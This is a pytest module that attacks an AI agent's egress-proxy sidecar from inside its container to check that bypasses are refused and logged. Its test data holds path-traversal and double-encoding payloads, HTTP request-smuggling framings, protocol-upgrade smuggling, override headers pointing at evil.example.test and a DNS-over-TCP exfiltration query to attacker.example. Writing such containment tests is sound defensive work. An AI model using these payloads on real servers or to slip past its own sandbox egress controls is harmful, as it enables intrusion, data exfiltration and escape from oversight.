"""Egress bypass classes, attacked from inside a real bottle as the agent.

Every form goes through the bottle's own egress sidecar from the agent's
unprivileged user (curl with the bottle's proxy settings, or raw bytes from
``agent_raw.py``). The fake upstream logs every connection it accepts, on its
HTTP ports and on the raw ports 22 and 8443, and its DNS server every query:
a refused form must leave both logs as they were (egress dials lazily, so a
refusal dials nothing, not even for a routed host).
"""

from __future__ import annotations

import json
import socket
import struct
import uuid

import pytest
from agent_probes import DENIED, Quiet, curl, decisions, q, raw, shell, sidecar_stdout
from agent_probes import wait_for_decision as decision_after
from fake_internet import (
    GATEWAY_NAME,
    LOOPBACK_NAME,
    NX_NAME,
    PRIVATE_NAME,
    dns_queries,
    requests_with,
    wait_for,
)

pytestmark = pytest.mark.docker
API = "https://api.example.test"


@pytest.fixture
def agent(launched):
    return launched.agent


@pytest.fixture
def quiet(launched, upstream):
    """The fake upstream accepts no connection from this bottle during the test."""
    guard = Quiet(upstream, launched.sidecars)
    yield guard
    guard.check()


def mark() -> str:
    return uuid.uuid4().hex


def _head(*lines: bytes) -> bytes:
    return b"\r\n".join(lines) + b"\r\n\r\n"


def test_the_probes_run_as_the_agent_and_a_routed_request_goes_through(agent, launched, upstream):
    _, uid = shell(agent, "id -u")
    assert uid.strip() != "0"
    m = mark()
    guard = Quiet(upstream, launched.sidecars)
    r = curl(agent, f"{API}/allowed/{m}")
    assert r.status == 200 and r.egress == "", r
    assert len(requests_with(upstream, m)) == 1
    assert guard.new(), "the connection log missed an allowed request's connection"


# --------------------------------------------------------------------------- 1. paths

PATH_FORMS = [
    "/repos/a;evil",  # ';' right after the prefix: a sibling where ';' is literal
    "/repos/a;/../a-evil",
    "/allowed;x/../../secret",
    "/allowed/x;%2f..%2f..%2fsecret",  # encoded traversal inside a parameter
    "/allowed/x;/%2e%2e/%2e%2e/secret",
    "/allowed/..;/secret",  # Tomcat-style
    "/allowed/..;jsessionid=1/secret",
    "/allowed/x%3b/../../secret",
    "/allowed/%2e%2e/secret",
    "/allowed/.%2E/secret",
    "/allowed%2f..%2fsecret",
    "/allowed/%EF%BC%8E%EF%BC%8E/secret",  # full-width dots, percent-encoded
    "/allowed/%c0%ae%c0%ae/secret",  # overlong UTF-8 dots
    "/allowed/%252e%252e/secret",  # double encoding
    "/allowed/..%5csecret",  # backslash
    "/allowed\\..\\secret",
    "//allowed/../secret",
]


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
@pytest.mark.parametrize("path", PATH_FORMS)
def test_path_parameter_and_encoding_forms_are_refused_and_logged_as_sent(
    agent, launched, upstream, quiet, path, http
):
    m = mark()
    since = len(decisions(launched.sidecars))
    r = curl(agent, f"{http} --path-as-is {q(API + path + '?m=' + m)}")
    r.denied("egress-block")
    assert requests_with(upstream, m) == []
    line = decision_after(launched.sidecars, since, lambda d: d.get("kind") == "request")
    # The decision log records the path exactly as sent (without the query).
    assert line["decision"] == "deny" and line["path"] == path, line


def test_full_width_dots_sent_raw_are_refused(agent, upstream, quiet):
    m = mark()
    path = "/allowed/\uff0e\uff0e/secret/" + m
    r = raw(
        agent,
        _head(f"GET {path} HTTP/1.1".encode(), b"Host: api.example.test"),
        connect="api.example.test:443",
        tls="api.example.test",
    )
    assert r.status in (400, 403), r
    assert requests_with(upstream, m) == []


# --------------------------------------------------------------------------- 2. ports


@pytest.mark.parametrize(
    ("url", "port", "host", "ports"),
    [
        ("https://api.example.test:8443/allowed/{m}", 8443, "api.example.test", "443 (https)"),
        ("https://api.example.test:22/allowed/{m}", 22, "api.example.test", "443 (https)"),
        ("https://api.example.test:53/allowed/{m}", 53, "api.example.test", "443 (https)"),
        ("https://ports.example.test:8443/{m}", 8443, "ports.example.test", "443,53"),
        ("https://ports.example.test:22/{m}", 22, "ports.example.test", "443,53"),
        ("http://other.example.test:8443/{m}", 8443, "other.example.test", "80 (http)"),
        ("http://other.example.test:22/{m}", 22, "other.example.test", "80 (http)"),
    ],
)
def test_an_unlisted_port_of_a_routed_host_gets_a_403_naming_the_port(
    agent, upstream, quiet, url, port, host, ports
):
    m = mark()
    r = curl(agent, q(url.format(m=m)))
    r.denied(f"port {port} is not routed", f"for host {host} (its ports: ", ports)
    assert requests_with(upstream, m) == []


@pytest.mark.parametrize("target", ["api.example.test:22", "ports.example.test:22"])
@pytest.mark.parametrize(
    "payload",
    [
        b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n",
        b"SSH-2.0-OpenSSH_9.2\r\n" + b"\x00\x00\x05\xdc\x06\x14" + bytes(range(64)),
    ],
)
def test_an_ssh_banner_through_connect_to_port_22_goes_nowhere(agent, quiet, target, payload):
    r = raw(agent, payload, connect=target, http=False, timeout=5)
    assert r.connect == 200  # the CONNECT is accepted, so a refusal can be read inside ...
    assert "SSH-" not in r.body  # ... but no SSH server answered, and the upstream saw nothing


def _dns_over_tcp(name: str) -> bytes:
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    msg = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 1, 1)
    return struct.pack("!H", len(msg)) + msg


@pytest.mark.parametrize(
    "target",
    [
        "ports.example.test:53",  # the route lists 53, and the name is pinned to the fake DNS
        "api.example.test:53",  # the route does not list 53
    ],
)
def test_dns_over_tcp_through_connect_to_port_53_is_not_answered(
    agent, launched, upstream, quiet, target
):
    name = f"exfil-{mark()[:16]}.attacker.example"
    since = len(decisions(launched.sidecars))
    r = raw(agent, _dns_over_tcp(name), connect=target, http=False, timeout=5)
    assert r.connect == 200
    assert r.body == "", r  # no DNS answer came back
    assert not [x for x in dns_queries(upstream) if name in (x["name"] or "")]
    if target.startswith("ports."):
        # A listed port 53 would get mitmproxy's DNS layer: egress refuses that layer.
        line = decision_after(launched.sidecars, since, lambda d: d.get("kind") == "layer")
        assert line["decision"] == "deny", line


# --------------------------------------------------------------------------- 3. token in clear

PLAIN_FORMS = [
    "http://api.example.test/allowed/{m}",
    "http://API.Example.Test./allowed/{m}",
    "http://api.example.test:80/allowed/{m}",
    "--proxytunnel http://api.example.test/allowed/{m}",  # CONNECT :80, then plain HTTP
]


@pytest.mark.parametrize("form", PLAIN_FORMS)
def test_plain_http_to_a_route_with_a_token_is_refused(agent, upstream, quiet, real_token, form):
    m = mark()
    r = curl(agent, f"-H 'Authorization: Bearer agent-guess' {form.format(m=m)}")
    r.denied("only sends over verified TLS")
    assert real_token not in r.body
    assert requests_with(upstream, m) == []


@pytest.mark.parametrize("port", [80, 443])
def test_plain_http_inside_connect_to_a_route_with_a_token_is_refused(
    agent, upstream, quiet, real_token, port
):
    m = mark()
    r = raw(
        agent,
        _head(f"GET /allowed/{m} HTTP/1.1".encode(), f"Host: api.example.test:{port}".encode()),
        connect=f"api.example.test:{port}",
    )
    r.denied()
    if port == 80:
        assert "only sends over verified TLS" in r.body, r.body
    assert real_token not in r.body
    assert requests_with(upstream, m) == []


def test_the_token_is_in_no_response_log_or_file(agent, launched, upstream, real_token):
    """After the plain-HTTP attempts (run this module whole): the token stayed in the sidecar."""
    m = mark()
    for form in PLAIN_FORMS:
        r = curl(agent, f"-i {form.format(m=m)}")
        assert real_token not in r.body
    logs = launched.sidecars.logs(stdout=True, stderr=True).decode("utf-8", "replace")
    assert real_token not in logs
    _, found = shell(
        agent,
        f"grep -rIl --exclude-dir=proc --exclude-dir=sys -e {q(real_token)} / 2>/dev/null || true",
        user="0",
    )
    assert found.strip() == ""
    # Only the TLS requests of this module carried it upstream.
    rows = [json.loads(line) for line in upstream.log.read_text().splitlines()]
    assert all(r["port"] == 443 for r in rows if real_token in json.dumps(r["headers"]))


# --------------------------------------------------------------------------- 4. headers

FOLDED = [
    b"X-A: one\r\n two",  # obs-fold with a space
    b"X-A: one\r\n\tX-HTTP-Method-Override: DELETE",  # obs-fold with a tab
    b"X-A: a\rX-Original-URL: /secret",  # bare CR
    b"X-A: a\x00b",  # NUL
    b"Accept: text/html\r\n  ; q=1",
]


@pytest.mark.parametrize("header", FOLDED)
def test_folded_split_and_nul_headers_are_refused(agent, upstream, quiet, header):
    m = mark()
    r = raw(
        agent,
        _head(f"GET /allowed/{m} HTTP/1.1".encode(), b"Host: api.example.test", header),
        connect="api.example.test:443",
        tls="api.example.test",
    )
    r.denied("line break or NUL")
    assert requests_with(upstream, m) == []


def test_a_bare_cr_hiding_transfer_encoding_smuggles_nothing(agent, upstream, quiet):
    m = mark()
    smuggled = f"GET /secret/{m} HTTP/1.1\r\nHost: api.example.test\r\n\r\n".encode()
    body = b"0\r\n\r\n" + smuggled
    head = _head(
        f"POST /allowed/{m} HTTP/1.1".encode(),
        b"Host: api.example.test",
        b"X-A: a\rTransfer-Encoding: chunked",
        f"Content-Length: {len(body)}".encode(),
    )
    r = raw(agent, head + body, connect="api.example.test:443", tls="api.example.test")
    r.denied("line break or NUL")
    assert requests_with(upstream, m) == []


def test_a_denied_request_pipelined_behind_an_allowed_one_is_refused(agent, upstream):
    m = mark()
    r = raw(
        agent,
        _head(b"GET /allowed/" + m.encode() + b"/1 HTTP/1.1", b"Host: api.example.test")
        + _head(
            b"GET /secret/" + m.encode() + b"/2 HTTP/1.1",
            b"Host: api.example.test",
            b"Connection: close",
        ),
        connect="api.example.test:443",
        tls="api.example.test",
        http=False,
        timeout=5,
    )
    assert r.body.startswith("HTTP/1.1 200 "), r.body
    assert "\r\n\r\n" + DENIED in r.body, r.body  # the second answer is the refusal
    assert [x["path"] for x in requests_with(upstream, m)] == [f"/allowed/{m}/1"]


@pytest.mark.parametrize(
    "framing",
    [
        [b"Transfer-Encoding: chunked", b"Content-Length: {n}"],
        [b"Content-Length: {n}", b"Transfer-Encoding: chunked"],
        [b"Content-Length: {n}", b"Transfer-Encoding : chunked"],
        [b"Content-Length: {n}", b"Transfer-Encoding: xchunked"],
        [b"Content-Length: {n}", b"Transfer-Encoding: chunked, identity"],
        [b"Content-Length: 5", b"Content-Length: {n}"],
        [b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"],
    ],
)
def test_request_smuggling_framings_smuggle_nothing(agent, upstream, quiet, framing):
    """A second request hidden in the body must never reach upstream as a request."""
    m = mark()
    smuggled = _head(f"GET /secret/{m} HTTP/1.1".encode(), b"Host: api.example.test")
    body = b"0\r\n\r\n" + smuggled
    lines = [x.replace(b"{n}", str(len(body)).encode()) for x in framing]
    head = _head(b"POST /allowed/x HTTP/1.1", b"Host: api.example.test", *lines)
    r = raw(
        agent,
        head + body,
        connect="api.example.test:443",
        tls="api.example.test",
        http=False,
        timeout=5,
    )
    assert r.body.startswith(("HTTP/1.1 400 ", "HTTP/1.1 403 ")) or r.body == "", r.body
    assert requests_with(upstream, m) == []


def test_an_absolute_url_of_another_host_inside_a_tunnel_is_refused(agent, upstream, quiet):
    m = mark()
    r = raw(
        agent,
        _head(f"GET https://other.example.test/{m} HTTP/1.1".encode(), b"Host: other.example.test"),
        connect="api.example.test:443",
        tls="api.example.test",
    )
    r.denied("does not match the target host api.example.test")
    assert requests_with(upstream, m) == []


UPGRADE_PROBE = r"""
import json, socket, ssl, sys
tls, target, host, upgrade, extra, smuggled = json.loads(sys.argv[1])
s = socket.create_connection(("egress", 8080), timeout=10)
if tls:
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += s.recv(1)
    s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
s.sendall(
    f"GET {target} HTTP/1.1\r\nHost: {host}\r\nUpgrade: {upgrade}\r\n"
    f"Connection: Upgrade, HTTP2-Settings\r\n{extra}\r\n".encode()
)
head = b""
while not head.endswith(b"\r\n\r\n"):
    byte = s.recv(1)
    if not byte:
        break
    head += byte
# Whatever protocol was agreed, send a request egress never checked, and h2's preface.
s.sendall(smuggled.encode() + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
s.close()
print(head.split(b"\r\n")[0].decode("latin-1"))
"""

UPGRADES = {
    "h2c": "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
    "websocket": "Sec-WebSocket-Version: 12\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
    "tls/1.2": "",
    "x-raw": "",
}


@pytest.mark.parametrize("tls", [True, False], ids=["in a tunnel", "plain"])
@pytest.mark.parametrize("upgrade", UPGRADES)
def test_a_protocol_upgrade_carries_no_unchecked_request(agent, upstream, tls, upgrade):
    """The upstream agrees to switch (101) on an allowed path; what follows is not relayed."""
    m, hidden = mark(), mark()
    host = "api.example.test" if tls else "other.example.test"  # plain: the token route refuses
    target = f"/allowed/upgrade/{m}" if tls else f"http://{host}/upgrade/{m}"
    # Refused by either route: a path outside /allowed, a method other than GET.
    smuggled = f"DELETE /secret/{hidden} HTTP/1.1\r\nHost: {host}\r\n\r\n"
    spec = json.dumps([tls, target, host, upgrade, UPGRADES[upgrade], smuggled])
    status = agent.exec_run(["python3", "-c", UPGRADE_PROBE, spec]).output.decode().strip()
    if status.startswith("HTTP/1.1 101"):
        wait_for(
            lambda: any(r["method"] == "AFTER-UPGRADE" for r in requests_with(upstream, m)),
            "the upstream's record of what followed the 101",
        )
        [after] = [r for r in requests_with(upstream, m) if r["method"] == "AFTER-UPGRADE"]
        assert after["body"] == "", after  # not a byte relayed after the switch
    else:
        # The upgrade was not passed on (the request was answered as usual) or refused.
        assert status.startswith(("HTTP/1.1 200", "HTTP/1.1 403")), status
    assert requests_with(upstream, hidden) == []


def test_the_fake_upstream_records_what_follows_a_101(upstream):
    """The check above would see relayed bytes: direct to the fake upstream, they are logged."""
    m = mark()
    with socket.create_connection((upstream.ip, 80), timeout=10) as s:
        s.sendall(_head(f"GET /upgrade/{m} HTTP/1.1".encode(), b"Host: x", b"Upgrade: x-raw"))
        assert s.recv(4096).startswith(b"HTTP/1.1 101")
        s.sendall(b"after the switch")
    wait_for(
        lambda: any(r["method"] == "AFTER-UPGRADE" for r in requests_with(upstream, m)),
        "the upstream's record",
    )
    [after] = [r for r in requests_with(upstream, m) if r["method"] == "AFTER-UPGRADE"]
    assert after["body"] == "after the switch"


OVERRIDES = [
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-HTTP-Method", "DELETE"),
    ("X-Method-Override", "DELETE"),
    ("X-Original-Method", "DELETE"),
    ("X-Original-URL", "/secret"),
    ("X-Original-URI", "/secret"),
    ("X-Rewrite-URL", "/secret"),
    ("X-Override-URL", "/secret"),
    ("X-Real-URL", "/secret"),
    ("X-Proxy-URL", "https://evil.example.test/"),
    ("X-Envoy-Original-Path", "/secret"),
    ("X-Envoy-Original-Host", "evil.example.test"),
    ("X-Original-Host", "evil.example.test"),
    ("X-Host", "evil.example.test"),
    ("X-Forwarded-Host", "evil.example.test"),
    ("X-Forwarded-Prefix", "/secret"),
    ("X-Forwarded-Path", "/secret"),
    ("X-Forwarded-Proto", "http"),
    ("X-Forwarded-For", "127.0.0.1"),
    ("x-forwarded-server", "evil.example.test"),
    ("FORWARDED", "for=127.0.0.1;host=evil.example.test;proto=http"),
    ("Proxy-Authorization", "Basic YWdlbnQ6Z3Vlc3M="),
]


def test_every_override_header_is_stripped_before_upstream(agent, launched, upstream):
    m = mark()
    since = len(decisions(launched.sidecars))
    headers = " ".join(f"-H {q(f'{k}: {v}')}" for k, v in OVERRIDES)
    r = curl(agent, f"{headers} -H 'X-Kept: 1' {API}/allowed/{m}")
    assert r.status == 200, r
    [seen] = requests_with(upstream, m)
    assert seen["method"] == "GET" and seen["path"] == f"/allowed/{m}"
    assert seen["headers"]["x-kept"] == "1"  # an ordinary header goes through
    leaked = {k for k in seen["headers"]} & {k.lower() for k, _ in OVERRIDES}
    assert leaked == set(), leaked
    line = decision_after(launched.sidecars, since, lambda d: d.get("kind") == "request")
    assert sorted(s.lower() for s in line["stripped"]) == sorted(k.lower() for k, _ in OVERRIDES)


@pytest.mark.parametrize(("name", "value"), OVERRIDES[:6])
def test_an_override_cannot_turn_an_allowed_request_into_a_refused_one(
    agent, upstream, name, value
):
    m = mark()
    r = curl(agent, f"-H {q(f'{name}: {value}')} https://other.example.test/{m}")
    assert r.status == 200, r
    [seen] = requests_with(upstream, m)
    assert name.lower() not in seen["headers"]
    assert seen["method"] == "GET" and seen["path"] == f"/{m}"


# --------------------------------------------------------------------------- 5. fail closed

UNDECODABLE = [
    b"G\xffT /allowed/{m} HTTP/1.1",
    b"\xc0\xaf /allowed/{m} HTTP/1.1",
    b"GET /allowed/\xff\xfe/{m} HTTP/1.1",
    b"GET /allowed/\xed\xa0\x80/{m} HTTP/1.1",  # an encoded surrogate
    b"GET /allowed/\xc0\xae\xc0\xae/{m} HTTP/1.1",  # overlong dots, raw
]


def _assert_sidecar_stdout_is_ascii_json(sidecars) -> None:
    out = sidecar_stdout(sidecars)
    assert out.isascii(), [line for line in out.splitlines() if not line.isascii()][:3]
    for line in out.decode().splitlines():
        row = json.loads(line)  # one line, valid JSON
        assert isinstance(row, dict), line


@pytest.mark.parametrize("line", UNDECODABLE)
def test_undecodable_method_or_path_is_refused(agent, launched, upstream, quiet, line):
    m = mark()
    r = raw(
        agent,
        _head(line.replace(b"{m}", m.encode()), b"Host: api.example.test"),
        connect="api.example.test:443",
        tls="api.example.test",
        timeout=5,
    )
    # Refused by mitmproxy's parser (400), by egress (403), or closed as not-HTTP.
    assert r.status in (400, 403, None), r
    if r.status == 403:
        r.denied()
    assert requests_with(upstream, m) == []
    _assert_sidecar_stdout_is_ascii_json(launched.sidecars)


@pytest.mark.parametrize(
    "line",
    [
        b"G\xffT http://other.example.test/{m} HTTP/1.1",
        b"GET http://other.example.test/\xff\xfe/{m} HTTP/1.1",
    ],
)
def test_undecodable_bytes_in_a_plain_proxy_request_are_refused(
    agent, launched, upstream, quiet, line
):
    m = mark()
    r = raw(agent, _head(line.replace(b"{m}", m.encode()), b"Host: other.example.test"))
    assert r.status in (400, 403), r
    assert requests_with(upstream, m) == []
    _assert_sidecar_stdout_is_ascii_json(launched.sidecars)


def test_after_every_attack_the_sidecar_stdout_is_ascii_json_lines(launched):
    launched.sidecars.reload()
    assert launched.sidecars.status == "running"
    _assert_sidecar_stdout_is_ascii_json(launched.sidecars)


# --------------------------------------------------------------------------- 6. addresses


@pytest.mark.parametrize(
    ("name", "what"),
    [
        (PRIVATE_NAME, "a private address"),  # the fake upstream's own address
        (GATEWAY_NAME, "a private address"),  # this machine, on the sidecars' way out
        (LOOPBACK_NAME, "a loopback address"),  # the sidecar itself
    ],
)
def test_a_routed_name_resolving_to_a_private_address_is_refused(
    agent, launched, upstream, quiet, name, what
):
    address = {PRIVATE_NAME: upstream.ip, GATEWAY_NAME: upstream.gateway}.get(name, "127.0.0.1")
    listener = _host_listener(upstream.gateway) if name == GATEWAY_NAME else None
    try:
        for url in (f"https://{name}/{mark()}", f"http://{name}/{mark()}"):
            queried = len(dns_queries(upstream, name))
            r = curl(agent, q(url))
            r.denied(f"{name} resolves to {address} is {what}")
            assert len(dns_queries(upstream, name)) > queried  # egress looked it up itself
        if listener is not None:
            listener.settimeout(0)
            with pytest.raises(BlockingIOError):
                listener.accept()  # this machine was not dialled either
    finally:
        if listener is not None:
            listener.close()


def _host_listener(address: str) -> socket.socket | None:
    """A listener on this machine's address on the upstream network, port 443."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        sock.bind((address, 443))
    except OSError as exc:
        sock.close()
        pytest.fail(f"cannot listen on {address}:443 to watch for a dial: {exc}")
    sock.listen(8)
    return sock


def test_a_routed_name_that_does_not_resolve_gets_the_failed_page(agent, upstream, quiet):
    queried = len(dns_queries(upstream, NX_NAME))
    r = curl(agent, f"https://{NX_NAME}/{mark()}")
    r.failed(502, f"Host: {NX_NAME}", f"the name {NX_NAME} does not resolve")
    assert len(dns_queries(upstream, NX_NAME)) > queried


@pytest.mark.parametrize(
    "form",
    [
        "https://{h}/x",
        "http://{h}/x",
        "https://{h}:8443/x",
        "--proxytunnel http://{h}/x",
        "-X POST --data x https://{h}/x",
    ],
)
def test_an_unrouted_name_is_never_looked_up(agent, upstream, quiet, form):
    label = f"unrouted-{mark()[:20]}"
    host = f"{label}.example.test"
    r = curl(agent, form.format(h=host))
    r.denied(f"no route for host {host}", "egress-block")
    assert not [x for x in dns_queries(upstream) if label in (x["name"] or "").lower()]


def test_an_unrouted_name_in_a_raw_connect_is_never_looked_up(agent, upstream, quiet):
    label = f"unrouted-{mark()[:20]}"
    r = raw(
        agent,
        _head(b"GET / HTTP/1.1", f"Host: {label}.example.test".encode()),
        connect=f"{label}.example.test:443",
        tls=f"{label}.example.test",
    )
    r.denied(f"no route for host {label}.example.test")
    assert not [x for x in dns_queries(upstream) if label in (x["name"] or "").lower()]


# --------------------------------------------------------------------------- 7. uploads

UPLOAD = "/tmp/upload-5m.bin"


@pytest.fixture(scope="module")
def upload(launched):
    code, out = shell(
        launched.agent, f"head -c 5242880 /dev/urandom > {UPLOAD} && wc -c < {UPLOAD}"
    )
    assert code == 0 and out.strip() == "5242880", out
    return UPLOAD


@pytest.mark.parametrize(
    ("form", "reason"),
    [
        ("--data-binary @{f} https://api.example.test/secret/{m}", "path"),
        ("--data-binary @{f} -H 'Expect:' https://api.example.test/secret/{m}", "path"),
        ("-T {f} https://api.example.test/secret/{m}", "path"),
        ("--data-binary @{f} https://other.example.test/{m}", "method POST"),
        ("--data-binary @{f} -H 'Expect:' https://unrouted.example.test/{m}", "no route"),
        ("--data-binary @{f} -H 'Expect:' http://other.example.test/{m}", "method POST"),
        ("--data-binary @{f} -H 'Transfer-Encoding: chunked' {api}/secret/{m}", "path"),
    ],
)
def test_a_denied_5mb_upload_gets_the_403_not_a_reset(agent, upstream, quiet, upload, form, reason):
    m = mark()
    r = curl(agent, form.format(f=upload, m=m, api=API))
    assert r.exit == 0, r  # curl read a whole response: no reset, no timeout
    r.denied(reason)
    assert requests_with(upstream, m) == []


def test_denials_are_one_line_each_in_the_log(launched):
    lines = sidecar_stdout(launched.sidecars).decode().splitlines()
    denies = [json.loads(x) for x in lines if '"decision":"deny"' in x]
    assert denies and all(d["reason"] for d in denies)
    assert not any(DENIED in x for x in lines)  # the page goes to the agent, not the log
